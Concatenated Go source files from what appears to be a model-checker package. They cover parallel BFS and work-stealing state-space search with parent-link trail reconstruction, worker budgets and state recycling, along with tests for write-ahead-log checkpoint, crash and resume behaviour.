		counted = true
	}
	sh.mu.Unlock()
	return depth, counted
}

// scan walks the final depth table after the search drains, returning
// the deepest stored state's minimal depth and whether any state sits
// at or beyond the bound (stored but never expanded — the deterministic
// truncation signal: the minimal-depth fixpoint does not depend on the
// order in which paths reached each state).
func (p *parentStore) scan(bound int32) (maxDepth int32, clipped bool) {
	for i := range p.shards {
		sh := &p.shards[i]
		sh.mu.Lock()
		for _, e := range sh.m {
			if e.depth > maxDepth {
				maxDepth = e.depth
			}
			if e.depth >= bound {
				clipped = true
			}
		}
		sh.mu.Unlock()
	}
	return maxDepth, clipped
}

// trailTo reconstructs the trail from the root to the state with hash h
// by walking parent links. maxLen bounds the walk against hash-collision
// cycles. When the walk reaches the root, the first step carries the
// initial state so lazy steps can be materialized by forward replay.
func (p *parentStore) trailTo(h uint64, maxLen int) []TrailStep {
	var rev []TrailStep
	for h != p.root && len(rev) <= maxLen {
		e, ok := p.get(h)
		if !ok {
			break
		}
		rev = append(rev, TrailStep{Label: e.label, Steps: e.steps, Key: e.key})
		h = e.parent
	}
	for i, j := 0, len(rev)-1; i < j; i, j = i+1, j-1 {
		rev[i], rev[j] = rev[j], rev[i]
	}
	if len(rev) > 0 && h == p.root {
		rev[0].From = p.rootState
	}
	return rev
}

func (s *parallelBFS) search(e *engine) {
	workers := s.workers
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if b := e.opts.Budget; b != nil {
		// Under a shared budget the caller's admission token covers the
		// first worker; claim as many of the remaining workers-1 as the
		// pool can spare right now and hold them for the whole run (the
		// level-synchronous crew is fixed; only the steal strategy grows
		// dynamically).
		claimed := 0
		for claimed < workers-1 && b.TryAcquire() {
			claimed++
		}
		workers = 1 + claimed
		defer func() {
			for i := 0; i < claimed; i++ {
				b.Release()
			}
		}()
	}

	init, d0 := e.visitInitial()
	if e.limitHit() {
		e.truncated.Store(true)
		return
	}
	parents := newParentStore(d0.h1, init)
	// A frontier state consumed at a level barrier is proven cold (the
	// merge overwrites its slot), so its digest is the tiered store's
	// preferred spill candidate — the level barrier is this strategy's
	// reclamation epoch.
	spill := e.spillFn()

	frontier := []frontierEntry{{state: init, d: d0}}
	if workers == 1 {
		s.searchSingle(e, parents, spill, init, frontier)
		return
	}
	// Per-worker next-frontier parts are allocated once and reused
	// across every merge barrier: workers append into a local slice and
	// write the header back on exit, so the shared array sees one store
	// per worker per level instead of false-shared header updates.
	next := make([][]frontierEntry, workers)
	for depth := 1; len(frontier) > 0; depth++ {
		if depth > e.opts.MaxDepth {
			// States at MaxDepth exist but may not be expanded — the
			// same truncation point as the DFS depth bound.
			e.truncated.Store(true)
			break
		}
		var cursor atomic.Int64
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func(w int) {
				defer wg.Done()
				bufp := e.getBuf()
				defer e.putBuf(bufp)
				buf := *bufp
				defer func() { *bufp = buf }()
				part := next[w][:0]
				defer func() { next[w] = part }()
				var sc statCell
				defer sc.flush(e)
				// One enqueue closure per worker per level, not per
				// expansion — the hot path must not allocate.
				enq := func(st State, d digest) {
					part = append(part, frontierEntry{state: st, d: d})
				}
				for {
					i := int(cursor.Add(1)) - 1
					if i >= len(frontier) {
						return
					}
					if e.limitHit() {
						e.truncated.Store(true)
						return
					}
					ent := frontier[i]
					var ok bool
					buf, ok = expandShared(e, parents, ent.state, ent.d.h1, depth, buf, true, &sc, enq, nil)
					// The cursor claim is exclusive and the merge below
					// overwrites the slot, so a fully expanded frontier
					// state is dead here — each level barrier is a
					// natural reclamation epoch. The root survives for
					// trail replay; a truncated expansion skips (its
					// unconsumed successors keep the state conservative).
					if ok && e.frontierRecycle && ent.state != init {
						if spill != nil {
							spill(ent.d)
						}
						e.rec.Recycle(ent.state)
					}
				}
			}(w)
		}
		wg.Wait()
		if e.truncated.Load() {
			break
		}
		frontier = frontier[:0]
		for w := range next {
			frontier = append(frontier, next[w]...)
		}
	}
}

// searchSingle is the workers=1 fast path of the level-synchronous
// strategy: the semantics (level order, parent links, trails, counters)
// are identical to the general path, but each level is a plain slice
// walk — no goroutine spawn, no WaitGroup, no atomic claim cursor, and
// the encode buffer and enqueue closure are bound once per search
// instead of once per level. The general path at workers=1 paid all of
// that per level for zero concurrency, which is where its per-worker
// parity trailed the steal strategy's (BENCH_2026-08-07: 0.52 vs 0.77).
func (s *parallelBFS) searchSingle(e *engine, parents *parentStore, spill func(digest), init State, frontier []frontierEntry) {
	bufp := e.getBuf()
	defer e.putBuf(bufp)
	buf := *bufp
	defer func() { *bufp = buf }()
	var sc statCell
	defer sc.flush(e)

	var part []frontierEntry
	enq := func(st State, d digest) {
		part = append(part, frontierEntry{state: st, d: d})
	}
	for depth := 1; len(frontier) > 0; depth++ {
		if depth > e.opts.MaxDepth {
			e.truncated.Store(true)
			return
		}
		part = part[:0]
		for i := range frontier {
			if e.limitHit() {
				e.truncated.Store(true)
				return
			}
			ent := frontier[i]
			var ok bool
			buf, ok = expandShared(e, parents, ent.state, ent.d.h1, depth, buf, true, &sc, enq, nil)
			if !ok {
				return // limit hit mid-expansion; truncated is set
			}
			if e.frontierRecycle && ent.state != init {
				if spill != nil {
					spill(ent.d)
				}
				e.rec.Recycle(ent.state)
			}
		}
		frontier = append(frontier[:0], part...)
	}
}

// expandShared is the expansion path common to the frontier strategies
// (level-synchronous and work-stealing): it records transition and
// state violations for every successor — reconstructing the parent
// trail prefix lazily, only when a violation is actually recorded —
// deduplicates successors through the visited store, links new states
// to their parent, and hands each newly stored successor to enqueue.
// Expansion routes through engine.expand, so partial-order reduction
// applies to the frontier strategies exactly as it does to DFS.
//
// count suppresses the matched counter when false: the work-stealing
// strategy re-expands states whose depth improved (relaxation passes),
// and those must not perturb the deterministic exploration statistics.
// sc is the calling worker's (goroutine-local) counter cell; explored
// and matched accumulate there and fold into the engine totals.
// onDup, when non-nil, receives every successor that was already in the
// visited store (the relaxation hook) and reports whether it kept the
// state (re-enqueued it); unkept duplicate children were produced by
// this expansion, shared with nobody, and are recycled on the spot —
// on diamond-heavy state spaces they are the bulk of the clones, the
// same place the DFS free-list pays. It returns the (possibly grown)
// encode buffer and false when a limit was hit (truncated is already
// set; the caller must stop, and must not recycle the expanded state
// or its successor slice — unconsumed entries keep them conservative).
func expandShared(e *engine, parents *parentStore, state State, h1 uint64, depth int, buf []byte, count bool, sc *statCell, enqueue func(State, digest), onDup func(State, digest) bool) ([]byte, bool) {
	var prefix []TrailStep // parent trail, reconstructed lazily
	havePrefix := false
	record := func(v Violation, tr *Transition) bool {
		// Reserve before constructing anything: on violation-dense
		// state spaces nearly every hit is a duplicate, and the trail
		// walk + copy for a rejected violation is wasted allocation.
		if !e.reserve(v) {
			return false
		}
		if !havePrefix {
			prefix = parents.trailTo(h1, e.opts.MaxDepth)
			havePrefix = true
		}
		trail := append(append([]TrailStep(nil), prefix...),
			TrailStep{Label: tr.Label, Steps: tr.Steps, From: state, Key: tr.Key})
		e.commit(v, trail, depth)
		return true
	}

	var trs []Transition
	trs, buf = e.expand(state, buf, count)
	if len(trs) > 0 && !e.depthByScan {
		// One depth note per generating expansion: every transition of
		// this batch sits at the same depth, and the steal strategy's
		// depth comes from the final parent-table scan instead.
		e.noteDepth(depth)
	}
	for i := range trs {
		tr := &trs[i]
		for _, v := range tr.Violations {
			if record(v, tr) && e.limitHit() {
				e.truncated.Store(true)
				return buf, false
			}
		}
		for _, v := range e.sys.Inspect(tr.Next) {
			if record(v, tr) && e.limitHit() {
				e.truncated.Store(true)
				return buf, false
			}
		}

		var d digest
		d, buf = e.digest(tr.Next, buf)
		if e.st.seen(d) {
			if count {
				sc.matched++
			}
			kept := onDup != nil && onDup(tr.Next, d)
			if !kept && e.frontierRecycle {
				// A duplicate child that was not re-enqueued never
				// entered a deque, the parent table, or a recorded
				// trail (record materializes eagerly): nobody but this
				// worker has ever seen the clone.
				e.rec.Recycle(tr.Next)
				tr.Next = nil
			}
			continue
		}
		parents.put(d.h1, parentEdge{parent: h1, label: tr.Label, steps: tr.Steps, key: tr.Key, depth: int32(depth)})
		sc.bumpExplored(e)
		enqueue(tr.Next, d)
		if e.limitHit() {
			e.truncated.Store(true)
			return buf, false
		}
	}
	if e.frontierRecycle && e.trec != nil {
		// Every entry was enqueued (its state copied into a frontier
		// structure), recycled above, or pruned inside engine.expand —
		// the backing array itself is reusable, as on the DFS pop path.
		e.trec.RecycleTransitions(trs)
	}
	return buf, true
}
