package checker

import (
	"runtime"
	"sync"
	"sync/atomic"
)

// parallelBFS is the parallel frontier strategy: a level-synchronous
// breadth-first search in the spirit of Holzmann's multi-core Spin.
// Each level, workers claim frontier states through an atomic cursor
// (dynamic load balancing — no per-worker partition can go idle while
// others still hold work), expand them concurrently via System.Expand,
// and deduplicate successors through the sharded visited store. The
// per-worker next-frontier slices are merged between levels, which
// doubles as the termination barrier.
//
// Trails cannot be threaded through a stack here, so every newly stored
// state records a parent link (state hash → parent hash + transition
// label/steps); on a violation the trail is reconstructed by walking
// the links back to the root. The distinct-violation set matches
// sequential DFS whenever the search is not truncated; the trail
// witnessing a violation is whichever path reached it first.
type parallelBFS struct {
	workers int
}

// frontierEntry is one state awaiting expansion, with its fingerprint
// (the key of its parent link).
type frontierEntry struct {
	state State
	d     digest
}

// parentEdge is the incoming BFS-tree edge of a stored state. For
// lazy-trail systems, steps stays nil and key carries the replay
// handle instead: the edge then costs one word plus a (shared) label
// string, and the step strings are only produced — by replaying
// forward from the root state — if a trail through this edge is
// materialized. No per-edge state is retained.
type parentEdge struct {
	parent uint64 // h1 of the predecessor state (rootHash for the root)
	label  string
	steps  []string
	key    uint64
}

// parentShards stripes the parent-link table; writes happen once per
// stored state, reads only during trail reconstruction.
const parentShards = 64

type parentStore struct {
	root      uint64
	rootState State // initial state: forward replay of lazy trails starts here
	shards    [parentShards]struct {
		mu sync.Mutex
		m  map[uint64]parentEdge
	}
}

func newParentStore(root uint64, rootState State) *parentStore {
	p := &parentStore{root: root, rootState: rootState}
	for i := range p.shards {
		p.shards[i].m = make(map[uint64]parentEdge)
	}
	return p
}

func (p *parentStore) put(h uint64, edge parentEdge) {
	sh := &p.shards[h>>58&(parentShards-1)]
	sh.mu.Lock()
	if _, ok := sh.m[h]; !ok { // first writer wins: keep the BFS tree acyclic
		sh.m[h] = edge
	}
	sh.mu.Unlock()
}

func (p *parentStore) get(h uint64) (parentEdge, bool) {
	sh := &p.shards[h>>58&(parentShards-1)]
	sh.mu.Lock()
	e, ok := sh.m[h]
	sh.mu.Unlock()
	return e, ok
}

// trailTo reconstructs the trail from the root to the state with hash h
// by walking parent links. maxLen bounds the walk against hash-collision
// cycles. When the walk reaches the root, the first step carries the
// initial state so lazy steps can be materialized by forward replay.
func (p *parentStore) trailTo(h uint64, maxLen int) []TrailStep {
	var rev []TrailStep
	for h != p.root && len(rev) <= maxLen {
		e, ok := p.get(h)
		if !ok {
			break
		}
		rev = append(rev, TrailStep{Label: e.label, Steps: e.steps, Key: e.key})
		h = e.parent
	}
	for i, j := 0, len(rev)-1; i < j; i, j = i+1, j-1 {
		rev[i], rev[j] = rev[j], rev[i]
	}
	if len(rev) > 0 && h == p.root {
		rev[0].From = p.rootState
	}
	return rev
}

func (s *parallelBFS) search(e *engine) {
	workers := s.workers
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if b := e.opts.Budget; b != nil {
		// Under a shared budget the caller's admission token covers the
		// first worker; claim as many of the remaining workers-1 as the
		// pool can spare right now and hold them for the whole run (the
		// level-synchronous crew is fixed; only the steal strategy grows
		// dynamically).
		claimed := 0
		for claimed < workers-1 && b.TryAcquire() {
			claimed++
		}
		workers = 1 + claimed
		defer func() {
			for i := 0; i < claimed; i++ {
				b.Release()
			}
		}()
	}

	init, d0 := e.visitInitial()
	if e.limitHit() {
		e.truncated.Store(true)
		return
	}
	parents := newParentStore(d0.h1, init)

	frontier := []frontierEntry{{state: init, d: d0}}
	for depth := 1; len(frontier) > 0; depth++ {
		if depth > e.opts.MaxDepth {
			// States at MaxDepth exist but may not be expanded — the
			// same truncation point as the DFS depth bound.
			e.truncated.Store(true)
			break
		}
		next := make([][]frontierEntry, workers)
		var cursor atomic.Int64
		var wg sync.WaitGroup
		for w := 0; w < workers; w++ {
			wg.Add(1)
			go func(w int) {
				defer wg.Done()
				bufp := e.getBuf()
				defer e.putBuf(bufp)
				buf := *bufp
				defer func() { *bufp = buf }()
				for {
					i := int(cursor.Add(1)) - 1
					if i >= len(frontier) {
						return
					}
					if e.limitHit() {
						e.truncated.Store(true)
						return
					}
					ent := frontier[i]
					buf = s.expand(e, parents, ent, depth, &next[w], buf)
				}
			}(w)
		}
		wg.Wait()
		if e.truncated.Load() {
			break
		}
		frontier = frontier[:0]
		for _, part := range next {
			frontier = append(frontier, part...)
		}
	}
}

// expand processes one frontier state through the shared expansion
// path, appending newly stored successors to the worker's
// next-frontier slice.
func (s *parallelBFS) expand(e *engine, parents *parentStore, ent frontierEntry, depth int, out *[]frontierEntry, buf []byte) []byte {
	buf, _ = expandShared(e, parents, ent.state, ent.d.h1, depth, buf, func(st State, d digest) {
		*out = append(*out, frontierEntry{state: st, d: d})
	})
	return buf
}

// expandShared is the expansion path common to the frontier strategies
// (level-synchronous and work-stealing): it records transition and
// state violations for every successor — reconstructing the parent
// trail prefix lazily, only when a violation is actually recorded —
// deduplicates successors through the visited store, links new states
// to their parent, and hands each newly stored successor to enqueue.
// It returns the (possibly grown) encode buffer and false when a limit
// was hit (truncated is already set; the caller must stop).
func expandShared(e *engine, parents *parentStore, state State, h1 uint64, depth int, buf []byte, enqueue func(State, digest)) ([]byte, bool) {
	var prefix []TrailStep // parent trail, reconstructed lazily
	havePrefix := false
	record := func(v Violation, tr Transition) bool {
		if !havePrefix {
			prefix = parents.trailTo(h1, e.opts.MaxDepth)
			havePrefix = true
		}
		trail := append(append([]TrailStep(nil), prefix...),
			TrailStep{Label: tr.Label, Steps: tr.Steps, From: state, Key: tr.Key})
		return e.record(v, trail, depth)
	}

	for _, tr := range e.sys.Expand(state) {
		e.noteDepth(depth)
		for _, v := range tr.Violations {
			if record(v, tr) && e.limitHit() {
				e.truncated.Store(true)
				return buf, false
			}
		}
		for _, v := range e.sys.Inspect(tr.Next) {
			if record(v, tr) && e.limitHit() {
				e.truncated.Store(true)
				return buf, false
			}
		}

		var d digest
		d, buf = e.digest(tr.Next, buf)
		if e.st.seen(d) {
			e.matched.Add(1)
			continue
		}
		parents.put(d.h1, parentEdge{parent: h1, label: tr.Label, steps: tr.Steps, key: tr.Key})
		e.explored.Add(1)
		enqueue(tr.Next, d)
		if e.limitHit() {
			e.truncated.Store(true)
			return buf, false
		}
	}
	return buf, true
}
