package checker

import (
	"os"
	"path/filepath"
	"testing"
)

// walBaseOpts is a chain-system search configuration whose full DFS
// explores a few thousand states — enough for several checkpoints at a
// small CheckpointEvery, cheap enough to run many kill/resume cycles.
func walBaseOpts(dir string) Options {
	return Options{
		MaxDepth:        20,
		Checkpoint:      true,
		StoreDir:        dir,
		CheckpointEvery: 64,
	}
}

func walChainSys() *chainSys { return &chainSys{bound: 13, bad: 24} }

// trailsOf renders every violation trail for exact comparison.
func trailsOf(res *Result) []string {
	var out []string
	for _, f := range res.Violations {
		out = append(out, FormatTrail(f))
	}
	return out
}

func assertSameRun(t *testing.T, name string, got, want *Result) {
	t.Helper()
	if got.StatesExplored != want.StatesExplored || got.StatesMatched != want.StatesMatched ||
		got.StatesStored != want.StatesStored || got.MaxDepthReached != want.MaxDepthReached {
		t.Errorf("%s: counters diverge: got explored=%d matched=%d stored=%d depth=%d / want explored=%d matched=%d stored=%d depth=%d",
			name, got.StatesExplored, got.StatesMatched, got.StatesStored, got.MaxDepthReached,
			want.StatesExplored, want.StatesMatched, want.StatesStored, want.MaxDepthReached)
	}
	gt, wt := trailsOf(got), trailsOf(want)
	if len(gt) != len(wt) {
		t.Fatalf("%s: violation count %d != %d", name, len(gt), len(wt))
	}
	for i := range gt {
		if gt[i] != wt[i] {
			t.Errorf("%s: trail %d diverges:\n--- got ---\n%s\n--- want ---\n%s", name, i, gt[i], wt[i])
		}
	}
}

// TestWALKillResumeRoundTrip: a search killed mid-run (MaxStates cap
// standing in for the kill) resumes from its last durable checkpoint
// and finishes with the identical violation set, trails, and state
// counts as the uninterrupted search.
func TestWALKillResumeRoundTrip(t *testing.T) {
	sys := walChainSys()
	baseline := Run(sys, Options{MaxDepth: 20})
	if len(baseline.Violations) == 0 {
		t.Fatal("baseline found no violations — the round trip is vacuous")
	}

	dir := t.TempDir()
	killed := walBaseOpts(dir)
	killed.MaxStates = baseline.StatesExplored / 2
	if killed.MaxStates <= 2*killed.CheckpointEvery {
		t.Fatalf("workload too small: kill point %d vs checkpoint interval %d", killed.MaxStates, killed.CheckpointEvery)
	}
	kres := Run(sys, killed)
	if !kres.Truncated {
		t.Fatal("killed run was not truncated")
	}
	if kres.Store.Checkpoints == 0 {
		t.Fatal("killed run wrote no checkpoints")
	}

	resumed := walBaseOpts(dir)
	resumed.Resume = true
	rres := Run(sys, resumed)
	if !rres.Store.Resumed {
		t.Fatal("resume fell back to a fresh search despite an intact WAL")
	}
	if rres.Truncated {
		t.Fatal("resumed run truncated")
	}
	assertSameRun(t, "resume", rres, baseline)
}

// TestWALKillResumeTiered: the same round trip through the tiered
// store with a spill-forcing budget — resume replays the visit log
// through tiered admission, so the rebuilt store spans hot and disk
// tiers.
func TestWALKillResumeTiered(t *testing.T) {
	sys := walChainSys()
	baseline := Run(sys, Options{MaxDepth: 20})

	dir := t.TempDir()
	mk := func() Options {
		o := walBaseOpts(filepath.Join(dir, "wal"))
		o.Store = Tiered
		o.MemBudget = 1
		return o
	}
	killed := mk()
	killed.MaxStates = baseline.StatesExplored / 2
	kres := Run(sys, killed)
	if !kres.Truncated || kres.Store.Checkpoints == 0 {
		t.Fatalf("killed run: truncated=%v checkpoints=%d", kres.Truncated, kres.Store.Checkpoints)
	}

	resumed := mk()
	resumed.Resume = true
	rres := Run(sys, resumed)
	if !rres.Store.Resumed {
		t.Fatal("resume fell back to a fresh search")
	}
	assertSameRun(t, "tiered-resume", rres, baseline)
	if rres.Store.StoredNew == 0 {
		t.Error("resumed run admitted nothing through the tiered store")
	}
}

// TestWALTruncatedTailResume: arbitrary tail damage — a half-written
// record (truncation) or trailing garbage — must cost at most the work
// since the last intact checkpoint, never correctness.
func TestWALTruncatedTailResume(t *testing.T) {
	sys := walChainSys()
	baseline := Run(sys, Options{MaxDepth: 20})

	for _, damage := range []struct {
		name string
		fn   func(t *testing.T, path string)
	}{
		{"truncate-mid-record", func(t *testing.T, path string) {
			fi, err := os.Stat(path)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.Truncate(path, fi.Size()-7); err != nil {
				t.Fatal(err)
			}
		}},
		{"trailing-garbage", func(t *testing.T, path string) {
			f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0o644)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if _, err := f.Write([]byte{'V', 0xFF, 0xFF, 0xFF, 1, 2, 3}); err != nil {
				t.Fatal(err)
			}
		}},
	} {
		t.Run(damage.name, func(t *testing.T) {
			dir := t.TempDir()
			killed := walBaseOpts(dir)
			killed.MaxStates = baseline.StatesExplored / 2
			kres := Run(sys, killed)
			if kres.Store.Checkpoints == 0 {
				t.Fatal("no checkpoints to damage")
			}
			damage.fn(t, filepath.Join(dir, walName))

			resumed := walBaseOpts(dir)
			resumed.Resume = true
			rres := Run(sys, resumed)
			if !rres.Store.Resumed {
				t.Fatal("resume fell back to fresh despite an intact checkpoint prefix")
			}
			assertSameRun(t, damage.name, rres, baseline)
		})
	}
}

// TestWALFingerprintMismatchFreshStart: a WAL written under different
// graph-shaping options must not be resumed — the run silently starts
// fresh and still completes correctly.
func TestWALFingerprintMismatchFreshStart(t *testing.T) {
	sys := walChainSys()
	dir := t.TempDir()
	killed := walBaseOpts(dir)
	killed.MaxStates = 500
	Run(sys, killed)

	resumed := walBaseOpts(dir)
	resumed.Resume = true
	resumed.MaxDepth = 19 // different fingerprint
	rres := Run(sys, resumed)
	if rres.Store.Resumed {
		t.Fatal("resumed across a configuration fingerprint mismatch")
	}
	baseline := Run(sys, Options{MaxDepth: 19})
	assertSameRun(t, "fingerprint-mismatch", rres, baseline)
}

// TestWALMissingFileFreshStart: Resume with no WAL present is a fresh
// search, not an error.
func TestWALMissingFileFreshStart(t *testing.T) {
	sys := walChainSys()
	opts := walBaseOpts(t.TempDir())
	opts.Resume = true
	res := Run(sys, opts)
	if res.Store.Resumed {
		t.Fatal("claimed resume with no WAL on disk")
	}
	baseline := Run(sys, Options{MaxDepth: 20})
	assertSameRun(t, "missing-wal", res, baseline)
}

// TestWALScanStopsAtEveryPrefix: scanning any byte-prefix of a valid
// WAL never errors and never returns a checkpoint beyond the prefix —
// the crash model is "power cut at an arbitrary offset".
func TestWALScanStopsAtEveryPrefix(t *testing.T) {
	sys := walChainSys()
	dir := t.TempDir()
	opts := walBaseOpts(dir)
	opts.MaxStates = 1500
	Run(sys, opts)

	path := filepath.Join(dir, walName)
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	fpr := walFingerprint(opts)
	step := len(data)/97 + 1
	for cut := 0; cut <= len(data); cut += step {
		tmp := filepath.Join(t.TempDir(), "wal.log")
		if err := os.WriteFile(tmp, data[:cut], 0o644); err != nil {
			t.Fatal(err)
		}
		f, err := os.Open(tmp)
		if err != nil {
			t.Fatal(err)
		}
		ck, _, end, serr := scanWAL(f, fpr)
		f.Close()
		if serr != nil {
			t.Fatalf("cut %d: scan error %v", cut, serr)
		}
		if int(end) > cut {
			t.Fatalf("cut %d: valid end %d beyond prefix", cut, end)
		}
		if ck != nil && ck.Seq <= 0 {
			t.Fatalf("cut %d: checkpoint with non-positive seq", cut)
		}
	}
}
