package checker

import (
	"runtime"
	"sync"
	"sync/atomic"
	"time"
)

// workSteal is the work-stealing frontier strategy. Where
// StrategyParallel is level-synchronous — every BFS level ends in a
// full merge barrier that idles workers on irregular state graphs —
// workSteal gives each worker a private Chase–Lev deque: the owner
// pushes and pops newly stored states LIFO (locally depth-first), and
// a worker whose deque runs dry steals the oldest entry FIFO from a
// victim. No worker ever waits at a barrier; the only global
// synchronisation is the sharded visited store (shared with
// StrategyParallel) and per-worker sent/done counters used for
// termination detection.
//
// Termination: each worker keeps two monotone, padded counters — sent
// (states it pushed to its deque, root included) and done (expansions
// it completed). done can never exceed sent globally: an entry is
// counted sent strictly before its push becomes visible, and whoever
// consumes it counts done only after the expansion. A worker that
// finds every deque empty sums all done counters, then all sent
// counters; monotonicity makes equality of the two sums prove that at
// the instant the done-scan finished every pushed state had been fully
// expanded — no entry exists anywhere and no expansion is in flight
// that could produce one — so the search is complete and all workers
// exit. (The scan order matters: summing sent first could observe a
// sent increment without its eventual done and miss termination, but
// never falsely detect it; summing done first can do neither.)
//
// Like StrategyParallel, trails are reconstructed through the shared
// parent-link table. Each stored state's depth starts as the length of
// whichever path stored it first and is then lowered (CAS-min in the
// parent store) every time a shorter path re-encounters the state; a
// state whose depth improves is re-enqueued so the shorter distance
// propagates to its descendants — a relaxation pass whose expansions
// run with the matched counter suppressed, so exploration statistics
// stay identical to a run that found the minimal depths first. The
// final depth table is therefore the shortest-distance fixpoint,
// independent of exploration order: MaxDepth clips expansion at the
// same bound as the other strategies (states at the bound are stored
// but not expanded), and both Truncated and MaxDepthReached are
// computed from the final table after the search drains, so
// depth-clipped searches report deterministic results instead of
// "whichever path stored it first".
//
// Under a shared WorkerBudget (Options.Budget), the search starts with
// the single admission token its caller holds and grows workers
// dynamically: after an expansion leaves surplus work queued, the
// worker tries to claim a spare token and spawns a sibling. A grown
// worker that stays idle for retireAfter scavenge passes retires and
// returns its token immediately — it does not spin-hold capacity a
// sibling group could admit on — and every claimed token is released
// by the time the search ends, so budget freed by one finished group
// flows to groups that still have work.
//
// With a recycling system (StateRecycler), the steal hot path is
// allocation-free in steady state: deque entries come from per-worker
// free-lists, consumed successor slices return through
// TransitionRecycler, duplicate children are recycled where they are
// produced, and consumed, fully expanded states are retired through
// the epoch-based reclamation layer (reclaim.go) so a reference
// briefly held by a concurrent steal attempt can never observe
// recycled backing storage.
type workSteal struct {
	workers int
}

// stealEntry is one state awaiting expansion; its digest keys the
// parent-link table, which also carries the state's (minimal known)
// depth — entries deliberately do not cache the depth, so a pop always
// expands at the freshest distance. Entry objects are pooled per
// worker: the Chase–Lev top-CAS guarantees exactly-once consumption,
// so the consumer owns the entry outright and recycles it into its own
// free-list (a thief that loaded a stale entry pointer loses the CAS
// and never dereferences it).
type stealEntry struct {
	state State
	d     digest
}

// wsCounters is one worker slot's termination-detection pair. Written
// (plain atomic stores — the owner is the only writer) by the slot's
// worker, scanned by any worker checking quiescence; padded so
// neighbouring slots never false-share. Ownership follows the deque
// index through retire/respawn handoff, and the counters survive it:
// they are monotone for the slot, not the goroutine.
//
//iotsan:padded
type wsCounters struct {
	sent atomic.Int64 // states pushed to this slot's deque (root included)
	done atomic.Int64 // expansions completed by this slot's owner
	_    [48]byte
}

// wsEntryPool is one worker slot's stealEntry free-list, owner-only;
// padded so the slice headers of neighbouring slots never false-share.
//
//iotsan:padded
type wsEntryPool struct {
	free []*stealEntry
	_    [40]byte
}

// stealRun is the shared state of one work-stealing search.
type stealRun struct {
	e       *engine
	parents *parentStore
	deques  []*wsDeque
	cnts    []wsCounters
	pools   []wsEntryPool
	// reclaim is the epoch-based reclamation layer, nil when the system
	// does not recycle or Options.NoEpochReclaim is set.
	reclaim *reclaimer
	// relaxOff disables depth relaxation (uncertified POR or symmetry
	// folding; see expand).
	relaxOff bool
	live     atomic.Int32 // workers currently running (crew-size check)
	nextIdx  atomic.Int32 // monotonic worker-index allocator
	max      int
	wg       sync.WaitGroup

	// freeMu guards freeIdx, the deque indices of retired workers. A
	// retiring worker publishes its index here strictly after its last
	// deque operation and its reclaim offline, so a replacement spawned
	// under the same index never shares ownership with it.
	freeMu  sync.Mutex
	freeIdx []int
}

func (s *workSteal) search(e *engine) {
	max := s.workers
	if max <= 0 {
		max = runtime.GOMAXPROCS(0)
	}

	init, d0 := e.visitInitial()
	if e.limitHit() {
		e.truncated.Store(true)
		return
	}

	// MaxDepthReached comes from the final depth-table scan below;
	// per-expansion notes would only be overwritten.
	e.depthByScan = true

	r := &stealRun{
		e:        e,
		parents:  newParentStore(d0.h1, init),
		deques:   make([]*wsDeque, max),
		cnts:     make([]wsCounters, max),
		pools:    make([]wsEntryPool, max),
		relaxOff: (e.reducer != nil && !e.certified) || e.canon != nil,
		max:      max,
	}
	for i := range r.deques {
		r.deques[i] = newWSDeque()
	}
	if e.frontierRecycle {
		r.reclaim = newReclaimer(e.rec, max, e.spillFn())
	}
	r.cnts[0].sent.Store(1)
	r.deques[0].push(&stealEntry{state: init, d: d0})

	if e.opts.Budget == nil {
		// Fixed crew: all workers up front.
		r.live.Store(int32(max))
		r.nextIdx.Store(int32(max))
		for w := 0; w < max; w++ {
			r.spawn(w, false)
		}
	} else {
		// Worker 0 rides the admission token the caller already holds;
		// the rest are claimed dynamically from the shared budget.
		r.live.Store(1)
		r.nextIdx.Store(1)
		r.spawn(0, false)
	}
	r.wg.Wait()
	if r.reclaim != nil {
		// No worker holds any frontier reference anymore: whatever the
		// grace periods kept in limbo goes back to the free-lists now.
		r.reclaim.drainAll()
	}
	// Clipping and the reported depth come from the final depth table —
	// the shortest-distance fixpoint — not from per-path bookkeeping, so
	// depth-clipped searches are deterministic across runs and worker
	// counts.
	maxd, clipped := r.parents.scan(int32(e.opts.MaxDepth))
	if clipped {
		e.truncated.Store(true)
	}
	e.maxDepth.Store(int64(maxd))
}

// spawn starts worker w. ownsToken marks workers holding a
// dynamically claimed budget token, which they release on exit.
func (r *stealRun) spawn(w int, ownsToken bool) {
	r.wg.Add(1)
	go func() {
		defer r.wg.Done()
		if ownsToken {
			defer r.e.opts.Budget.Release()
		}
		r.work(w, ownsToken)
	}()
}

// quiescent reports whether every pushed state has been fully expanded.
// The done counters are summed strictly before the sent counters: both
// are monotone and done can never lead sent, so done-sum == sent-sum
// proves global quiescence at the instant the done-scan finished
// (a sent-first order could only delay detection, a done-first order
// can neither miss nor falsely detect it).
func (r *stealRun) quiescent() bool {
	var done int64
	for i := range r.cnts {
		done += r.cnts[i].done.Load()
	}
	var sent int64
	for i := range r.cnts {
		sent += r.cnts[i].sent.Load()
	}
	return sent == done
}

// approxPending is a racy estimate of states pushed but not yet
// expanded, for the grow heuristic only.
func (r *stealRun) approxPending() int64 {
	var n int64
	for i := range r.cnts {
		n += r.cnts[i].sent.Load() - r.cnts[i].done.Load()
	}
	return n
}

// maybeGrow claims one spare budget token and spawns an extra worker
// when queued work exceeds the crew that could be expanding it.
func (r *stealRun) maybeGrow() {
	if r.e.opts.Budget == nil {
		return
	}
	for {
		l := r.live.Load()
		if int(l) >= r.max || r.approxPending() <= int64(l)+1 {
			return
		}
		if !r.e.opts.Budget.TryAcquire() {
			return
		}
		if !r.live.CompareAndSwap(l, l+1) {
			// Lost the crew-count race; return the token and re-evaluate.
			r.e.opts.Budget.Release()
			continue
		}
		// Allocate a deque index: prefer one freed by a retired worker,
		// else a fresh slot.
		idx := -1
		r.freeMu.Lock()
		if n := len(r.freeIdx); n > 0 {
			idx = r.freeIdx[n-1]
			r.freeIdx = r.freeIdx[:n-1]
		}
		r.freeMu.Unlock()
		if idx < 0 {
			if fresh := int(r.nextIdx.Add(1)) - 1; fresh < r.max {
				idx = fresh
			} else {
				r.nextIdx.Add(-1)
			}
		}
		if idx < 0 {
			// Concurrent grows transiently exhausted the index space;
			// undo and let a later surplus try again.
			r.live.Add(-1)
